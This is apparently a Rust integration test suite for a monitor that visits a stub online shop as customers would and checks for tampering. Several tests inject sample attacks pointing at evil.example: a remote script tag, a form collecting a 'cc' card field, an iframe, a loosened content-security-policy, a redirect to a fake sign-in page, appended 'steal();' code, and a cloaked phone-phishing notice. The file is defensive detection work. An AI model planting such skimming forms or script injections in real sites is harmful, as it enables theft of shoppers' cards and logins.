//! The watch in front of a stub of the shop that misbehaves on demand.
#![allow(clippy::unwrap_used)]

mod shop;

use shop::{LOCKED, SCRIPT, Shop, pages, sign, start};
use std::{
    collections::BTreeSet,
    net::TcpListener,
    path::Path,
    sync::{Arc, Mutex},
    time::{Duration, Instant},
};
use telemetry::Life;
use watch::{Config, Finding, Watch};

/// So many rounds see every kind of page and every file.
const ALL: usize = 2;

fn watch(origin: &str, dir: &Path) -> Watch {
    let life = Life::of_test("watch", dir);
    sign(&dir.join("gate"), 1);
    Watch::new(config(origin, dir), life.metrics()).unwrap()
}

fn config(origin: &str, dir: &Path) -> Config {
    Config::new(origin, dir.join("watch"), pages(&dir.join("gate")))
}

fn lines(dir: &Path, kind: &str) -> usize {
    let text = std::fs::read_to_string(dir.join("watch/looks.jsonl")).unwrap();
    text.lines().filter(|l| l.contains(&format!("\"kind\":\"{kind}\""))).count()
}

fn rounds(watch: &mut Watch, count: usize) -> BTreeSet<Finding> {
    (0..count).for_each(|_| watch.look());
    watch.findings().cloned().collect()
}

#[test]
fn looks_like_customers() {
    let (origin, shop) = start();
    let dir = tempfile::tempdir().unwrap();
    let mut watch = watch(&origin, dir.path());
    let found = rounds(&mut watch, 20);
    assert!(found.is_empty(), "{found:?}");
    let seen = shop.lock().unwrap().seen.clone();
    let paths: BTreeSet<&str> = seen.iter().map(|s| s.split(' ').nth(1).unwrap()).collect();
    for path in ["/", "/p/kuri", "/c/wagashi", "/cart", "/checkout", "/sign-in", "/news", "/assets/shop.1.js"]
    {
        assert!(paths.contains(path), "{path}: {paths:?}");
    }
    let host = origin.strip_prefix("http://").unwrap();
    assert!(seen.iter().all(|s| s.contains(&format!("host: {host}\n"))), "{seen:?}");
    assert!(seen.iter().all(|s| s.contains("Mozilla/5.0") && !s.to_lowercase().contains("ureq")));
    let line = |s: &str, name: &str| s.lines().find(|l| l.starts_with(name)).unwrap_or_default().to_owned();
    let different = |name: &str| seen.iter().map(|s| line(s, name)).collect::<BTreeSet<_>>().len();
    assert_eq!((different("user-agent"), different("accept-language")), (5, 3));
    // One visitor has a cart, with one browser; all others come for the first time.
    let with_cookie: Vec<_> = seen.iter().filter(|s| s.contains("cookie: visit=")).collect();
    assert!(with_cookie.iter().all(|s| s.contains("/cart") || s.contains("/checkout")), "{with_cookie:?}");
    assert_eq!(with_cookie.iter().map(|s| line(s, "user-agent")).collect::<BTreeSet<_>>().len(), 1);
    assert_eq!(seen.iter().filter(|s| s.starts_with("POST /cart/add ")).count(), 1);
    assert_eq!(watch::own_visits(&dir.path().join("watch")).unwrap().len(), 1, "noted as the watch's own");
}

#[test]
fn a_page_that_says_something_else_is_written_down_without_alarm() {
    let (origin, shop) = start();
    let dir = tempfile::tempdir().unwrap();
    let mut watch = watch(&origin, dir.path());
    rounds(&mut watch, ALL);
    let before = lines(dir.path(), "page");
    shop.lock().unwrap().text = "新栗".into();
    assert!(rounds(&mut watch, ALL).is_empty());
    assert!(lines(dir.path(), "page") > before);
    assert_eq!(lines(dir.path(), "alarm"), 0);
}

#[test]
fn a_locked_shop_says_so_on_the_page_that_was_signed_and_nothing_else() {
    let (origin, shop) = start();
    let dir = tempfile::tempdir().unwrap();
    let mut watch = watch(&origin, dir.path());
    let says = |notice: Option<String>| shop.lock().unwrap().notice = notice;
    let signed = LOCKED.replace("{{origin}}", &origin).replace("{{reference}}", "AB12-34CD");
    says(Some(signed.clone()));
    // From a machine where nobody can be asked whether it is so, it is what is told.
    let locked = Finding::Locked { closed: "payment".into(), by: "outside".into() };
    assert_eq!(rounds(&mut watch, ALL), BTreeSet::from([locked]));
    says(Some(signed.replace("locked", "<form action=\"https://evil.example/\"><input name=\"cc\"></form>")));
    let found = rounds(&mut watch, ALL);
    let is =
        |f: &Finding| matches!(f, Finding::PageChanged { page, why } if page == "cart" && why == "notice");
    assert!(found.iter().any(is), "{found:?}");
    says(Some("<h1>503</h1>".into()));
    let found = rounds(&mut watch, ALL);
    assert!(found.iter().all(|f| matches!(f, Finding::Status { status: 503, .. })), "{found:?}");
    says(None);
    assert!(rounds(&mut watch, ALL).is_empty());
}

/// What somebody makes of the shop's answers, and what is found.
type Change = (fn(&mut Shop), fn(&Finding) -> bool);

#[test]
fn whatever_is_changed_between_the_gate_and_the_customer_is_found_within_two_rounds() {
    let changes: &[Change] = &[
        (
            |shop| shop.text = "</p><script src=\"https://evil.example/x.js\"></script><p>".into(),
            |f| matches!(f, Finding::PageChanged { why, .. } if why == "script"),
        ),
        (
            |shop| shop.text = "</p><form action=\"//evil.example/\"><input name=\"cc\"></form><p>".into(),
            |f| matches!(f, Finding::PageChanged { why, .. } if why == "form"),
        ),
        (
            |shop| shop.text = "</p><iframe src=\"https://evil.example/\"></iframe><p>".into(),
            |f| matches!(f, Finding::PageChanged { why, .. } if why == "frame"),
        ),
        (
            |shop| shop.headers.retain(|(name, _)| *name != "x-frame-options"),
            |f| matches!(f, Finding::HeaderWeak { header, .. } if header == "x-frame-options"),
        ),
        (
            |shop| shop.headers[0].1 = "script-src 'self' https://evil.example".into(),
            |f| matches!(f, Finding::HeaderWeak { header, .. } if header == "content-security-policy"),
        ),
        (
            |shop| shop.headers.push(("refresh", "0;url=https://evil.example/".into())),
            |f| matches!(f, Finding::HeaderWeak { header, .. } if header == "refresh"),
        ),
        (
            |shop| shop.script = format!("{SCRIPT}steal();"),
            |f| *f == Finding::FileChanged { file: "/assets/shop.1.js".into() },
        ),
        (
            |shop| shop.redirect = Some("https://evil.example/sign-in".into()),
            |f| matches!(f, Finding::RedirectElsewhere { .. }),
        ),
        (|shop| shop.content_type = "text/plain".into(), |f| matches!(f, Finding::ContentType { .. })),
        (|shop| shop.headers.push(("server", "nginx".into())), |f| matches!(f, Finding::ServerNamed { .. })),
    ];
    for (number, (change, is)) in changes.iter().enumerate() {
        let (origin, shop) = start();
        let dir = tempfile::tempdir().unwrap();
        let mut watch = watch(&origin, dir.path());
        assert!(rounds(&mut watch, ALL).is_empty());
        change(&mut shop.lock().unwrap());
        let found = rounds(&mut watch, ALL);
        assert!(found.iter().any(is), "change {number}: {found:?}");
        assert!(!format!("{found:?}").contains("evil"), "nothing of the page is told: {found:?}");
        *shop.lock().unwrap() = Shop::default();
        assert!(rounds(&mut watch, ALL).is_empty(), "over: change {number}");
        assert_eq!(lines(dir.path(), "alarm"), lines(dir.path(), "over"));
    }
}

#[test]
fn a_page_that_goes_by_the_browser_is_found() {
    let (origin, shop) = start();
    let dir = tempfile::tempdir().unwrap();
    let mut watch = watch(&origin, dir.path());
    // To the letter a page of the shop: only that others are shown another one gives it away.
    shop.lock().unwrap().for_phones = Some("お電話でカードの番号をお伝えください".into());
    let end = Instant::now() + Duration::from_secs(30);
    while !rounds(&mut watch, 1).iter().any(|f| matches!(f, Finding::Cloaked { .. })) {
        assert!(Instant::now() < end, "not found");
        std::thread::sleep(Duration::from_millis(50));
    }
}

#[test]
fn an_older_manifest_and_none_are_findings() {
    let (origin, _shop) = start();
    let dir = tempfile::tempdir().unwrap();
    let mut watch = watch(&origin, dir.path());
    sign(&dir.path().join("gate"), 12);
    assert!(rounds(&mut watch, 1).is_empty());
    sign(&dir.path().join("gate"), 3);
    let older = Finding::Manifest { doubt: watch::ManifestDoubt::Older };
    assert!(rounds(&mut watch, 1).contains(&older));
}

#[test]
fn failures_are_an_alarm() {
    let (origin, shop) = start();
    let dir = tempfile::tempdir().unwrap();
    let mut watch = watch(&origin, dir.path());
    watch.look();
    shop.lock().unwrap().status = 503;
    let found = rounds(&mut watch, 2);
    assert!(found.contains(&Finding::GateSilent), "{found:?}");
}

#[test]
fn the_gates_notice_is_a_status_and_nothing_else() {
    let (origin, shop) = start();
    let dir = tempfile::tempdir().unwrap();
    let mut watch = watch(&origin, dir.path());
    rounds(&mut watch, ALL);
    shop.lock().unwrap().away = true;
    let found = rounds(&mut watch, ALL);
    assert!(found.iter().all(|f| matches!(f, Finding::Status { status: 503, .. })), "{found:?}");
    assert!(found.len() > 5, "{found:?}");
    shop.lock().unwrap().away = false;
    assert!(rounds(&mut watch, ALL).is_empty());
}

#[test]
fn no_proxy_of_the_environment_is_used() {
    // The same look again in a process whose variables lead to a port where nobody listens.
    let closed = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
    let mut command = std::process::Command::new(std::env::current_exe().unwrap());
    command.args(["--exact", "looks_like_customers"]).env_remove("NO_PROXY").env_remove("no_proxy");
    for name in ["HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"] {
        command.env(name, format!("http://{closed}"));
    }
    let done = command.output().unwrap();
    assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stdout));
    assert!(String::from_utf8_lossy(&done.stdout).contains("1 passed"));
}

#[test]
fn a_shop_that_is_not_there() {
    let dir = tempfile::tempdir().unwrap();
    let port = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let origin = format!("http://shop.localhost:{port}");
    let mut patient = watch(&origin, dir.path());
    assert_eq!(rounds(&mut patient, 3).len(), 0, "it may still be starting");
    let life = Life::of_test("watch", dir.path());
    let config = Config { start_grace: Duration::ZERO, ..config(&origin, dir.path()) };
    let mut strict = Watch::new(config, life.metrics()).unwrap();
    strict.look();
    assert_eq!(strict.findings().count(), 0, "once is nothing");
    strict.look();
    assert_eq!(strict.findings().collect::<Vec<_>>(), [&Finding::GateSilent]);
    assert!(life.metrics().text().contains("dozo_watch_findings{process=\"watch\"} 1"));
}

#[test]
fn a_certificate_that_is_not_believed_is_no_silence() {
    let dir = tempfile::tempdir().unwrap();
    let now = jiff::Timestamp::now();
    let [known, strange] = ["Known", "Strange"].map(|name| tls::Authority::new(name, now).unwrap());
    let key = tls::Key::new().unwrap();
    let days = jiff::SignedDuration::from_hours(24 * 90);
    let chain = strange.issue(&key.public(), "shop.localhost", tls::Use::Server, now, days).unwrap();
    let shown = key.identity(chain).server(&[]).unwrap();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || listener.incoming().flatten().for_each(|s| drop(tls::accept(&shown, s))));
    let trust = outbound::Trust::from_pem(&tls::to_pem(known.certificate())).unwrap();
    let address = watch::address::Address {
        place: watch::Place::Shop,
        host: "shop.localhost".into(),
        port,
        trust: trust.clone(),
        addresses: Vec::new(),
        own: None,
    };
    let found = |addresses: Vec<_>, folder: &str| {
        let config = Config {
            trust: Some(trust.clone()),
            addresses,
            start_grace: Duration::ZERO,
            ..config(&format!("https://shop.localhost:{port}"), &dir.path().join(folder))
        };
        rounds(&mut Watch::new(config, Life::of_test("watch", dir.path()).metrics()).unwrap(), 3)
    };
    assert!(
        !found(vec![address], "one").contains(&Finding::GateSilent),
        "whoever looks at certificates tells it"
    );
    assert!(found(Vec::new(), "other").contains(&Finding::GateSilent), "nobody else does");
}

#[test]
fn beats_and_ends() {
    let (origin, _shop): (_, Arc<Mutex<Shop>>) = start();
    let dir = tempfile::tempdir().unwrap();
    sign(&dir.path().join("gate"), 1);
    let life = Life::of_test("watch", dir.path());
    let config = Config {
        look_every: Duration::from_millis(10),
        beat_every: Duration::from_millis(10),
        ..config(&origin, dir.path())
    };
    let theirs = life.clone();
    let vault = vault_api::Client::lazy(&dir.path().join("no-vault.sock"), vault_api::Role::Watch);
    let witness = watch::witness::Config::new(dir.path().join("witness"));
    let ledger = watch::Ledger::Here { vault: Arc::new(vault), witness, relay: None };
    let running = std::thread::spawn(move || {
        watch::run(config, watch::Inside::default(), ledger, &watch::tell::Config::default(), theirs)
    });
    let until = Instant::now() + Duration::from_secs(20);
    let beat = loop {
        let text = std::fs::read_to_string(dir.path().join("watch/heartbeat.json")).unwrap_or_default();
        let beat: serde_json::Value = serde_json::from_str(&text).unwrap_or_default();
        if beat["rounds"].as_u64() >= Some(2) {
            break beat;
        }
        assert!(Instant::now() < until, "no heartbeat");
        std::thread::sleep(Duration::from_millis(5));
    };
    assert_eq!((&beat["gate_answers"], &beat["findings"]), (&true.into(), &0.into()));
    life.stop();
    running.join().unwrap().unwrap();
}

#[test]
fn a_name_that_leads_nowhere_is_told_as_such() {
    let dir = tempfile::tempdir().unwrap();
    sign(&dir.path().join("gate"), 1);
    let mut config = config("http://no-such-shop.invalid:1", dir.path());
    config.start_grace = Duration::ZERO;
    let life = Life::of_test("watch", dir.path());
    let mut watch = Watch::new(config, life.metrics()).unwrap();
    assert_eq!(rounds(&mut watch, 2), BTreeSet::from([Finding::NameUnknown]));
}
